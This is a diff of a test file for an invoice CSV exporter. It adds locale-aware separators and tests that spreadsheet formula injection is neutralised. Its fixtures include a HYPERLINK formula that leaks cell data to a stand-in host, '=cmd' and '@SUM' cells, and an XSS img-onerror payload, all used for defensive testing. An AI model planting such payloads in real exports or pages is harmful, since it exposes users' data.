@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { centsToDecimal, csvFileName, invoicesToCsv, neutralizeFormula, quoteField } from '@/lib/billing/invoice-csv';
+import { centsToDecimal, csvDialect, csvFileName, invoicesToCsv, neutralizeFormula, quoteField } from '@/lib/billing/invoice-csv';
+import { spreadsheetCells } from '@/lib/billing/invoice-csv.support';
 import type { Invoice } from '@/lib/billing/model';
 
 const BOM = '\uFEFF';
@@ -59,11 +60,37 @@ describe('invoicesToCsv', () => {
     expect(centsToDecimal(10 + 20)).toBe('0.30');
   });
 
-  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
+  it('quotes commas, semicolons, tabs, quotes and line breaks (RFC 4180)', () => {
     const csv = invoicesToCsv([
-      invoice({ number: 'A,1', period: 'say "hi"', rawStatus: 'line\r\nbreak', status: 'other', dueDate: 'soon\n', paidAt: 'x' }),
+      invoice({ number: 'A,1', period: 'say "hi"', rawStatus: 'line\r\nbreak', status: 'other', dueDate: 'soon\n', paidAt: 'a;b' }),
+      invoice({ number: 'A\t1' }),
     ]);
-    expect(csv).toBe(BOM + HEADER + '"A,1","say ""hi""",200.00,BRL,other,"line\r\nbreak","soon\n",x\r\n');
+    expect(csv).toBe(
+      BOM +
+        HEADER +
+        '"A,1","say ""hi""",200.00,BRL,other,"line\r\nbreak","soon\n","a;b"\r\n' +
+        '"A\t1",November 2026,200.00,BRL,pending,pending,2026-12-10,\r\n',
+    );
+  });
+
+  it('writes ";" and a decimal comma for a pt-BR spreadsheet, "," and a dot for an English one', () => {
+    const invoices = [invoice({ total: { cents: -123450, currency: 'BRL' }, paidAt: 'x;y' })];
+    expect(invoicesToCsv(invoices, 'pt-BR')).toBe(
+      BOM + HEADER.replaceAll(',', ';') + 'INV-202611-BELGO-;November 2026;"-1234,50";BRL;pending;pending;2026-12-10;"x;y"\r\n',
+    );
+    expect(invoicesToCsv(invoices, 'en')).toBe(
+      BOM + HEADER + 'INV-202611-BELGO-,November 2026,-1234.50,BRL,pending,pending,2026-12-10,"x;y"\r\n',
+    );
+  });
+
+  it('a host "x;=…" never becomes a formula cell, whichever separator the spreadsheet splits on', () => {
+    const hostile = invoice({ number: 'x;=HYPERLINK("http://evil.example","y")', period: 'a,+1', rawStatus: 'b\t@SUM(A1)', status: 'other', dueDate: 'c"-2+3' });
+    for (const locale of ['pt-BR', 'en']) {
+      const body = invoicesToCsv([hostile], locale).slice(BOM.length);
+      for (const separator of [',', ';', '\t']) {
+        expect(spreadsheetCells(body, separator).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+      }
+    }
   });
 
   it('neutralises spreadsheet formulas and keeps markup as inert text', () => {
@@ -81,8 +108,8 @@ describe('invoicesToCsv', () => {
     expect(csv).toBe(
       BOM +
         HEADER +
-        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")",'+1+1,200.00,BRL,other,'-2+3,'@SUM(A1:A2),'\t=1\r\n` +
-        `<img src=x onerror=alert(1)>,"'\r=cmd",200.00,BRL,other,"'\n=1",,\r\n`,
+        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")",'+1+1,200.00,BRL,other,'-2+3,'@SUM(A1:A2),"'\t'=1"\r\n` +
+        `<img src=x onerror=alert(1)>,"'\r'=cmd",200.00,BRL,other,"\n'=1",,\r\n`,
     );
   });
 
@@ -99,9 +126,15 @@ describe('invoicesToCsv', () => {
 });
 
 describe('CSV helpers', () => {
-  it('neutralizeFormula prefixes only risky first characters', () => {
+  it('neutralizeFormula prefixes only risky first characters (OWASP: = + - @ TAB CR)', () => {
     expect(['=1', '+1', '-1', '@a', '\t1', '\r1', '\n1', 'a=1', ' =1', '', "'=1"].map(neutralizeFormula)).toEqual([
-      "'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1", "'\n1", 'a=1', ' =1', '', "'=1",
+      "'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1", '\n1', 'a=1', ' =1', '', "'=1",
+    ]);
+  });
+
+  it('neutralizeFormula also prefixes them where another reader starts a cell: after , ; TAB CR LF or a quote', () => {
+    expect(['x;=1', 'x,+1', 'x\t-1', 'x\r@a', 'x\n=1', 'x"=1', 'x;\t=1', 'x; =1', 'x;a=1', 'x=1;'].map(neutralizeFormula)).toEqual([
+      "x;'=1", "x,'+1", "x\t'-1", "x\r'@a", "x\n'=1", `x"'=1`, "x;'\t'=1", 'x; =1', 'x;a=1', 'x=1;',
     ]);
   });
 
@@ -109,7 +142,21 @@ describe('CSV helpers', () => {
     expect(quoteField('plain')).toBe('plain');
     expect(quoteField('a"b')).toBe('"a""b"');
     expect(quoteField('a,b')).toBe('"a,b"');
+    expect(quoteField('a;b')).toBe('"a;b"');
+    expect(quoteField('a\tb')).toBe('"a\tb"');
     expect(quoteField('a\nb')).toBe('"a\nb"');
+    expect(quoteField('a\rb')).toBe('"a\rb"');
+  });
+
+  it('csvDialect: ";" with a decimal comma where the locale writes one, else "," with a dot', () => {
+    expect(['pt-BR', 'pt', 'pt-PT', 'en', 'en-US', 'not a locale'].map((locale) => csvDialect(locale))).toEqual([
+      { separator: ';', decimal: ',' },
+      { separator: ';', decimal: ',' },
+      { separator: ';', decimal: ',' },
+      { separator: ',', decimal: '.' },
+      { separator: ',', decimal: '.' },
+      { separator: ',', decimal: '.' },
+    ]);
   });
 
   it('csvFileName is faturas-<tenant>-<YYYY-MM-DD>.csv in local time', () => {
